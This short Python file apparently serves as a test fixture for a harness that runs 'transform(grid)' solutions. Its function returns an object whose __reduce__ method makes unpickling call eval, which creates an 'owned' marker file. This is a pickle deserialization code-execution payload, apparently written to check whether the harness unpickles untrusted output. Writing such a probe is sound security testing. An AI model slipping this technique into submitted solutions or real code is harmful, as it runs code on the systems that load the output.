# ruff: noqa
"""Returns an object that runs code when it is unpickled."""


def transform(grid):
    class Evil:
        def __reduce__(self):
            return eval, ("open(DROP + '/owned', 'w')",)

    return Evil()
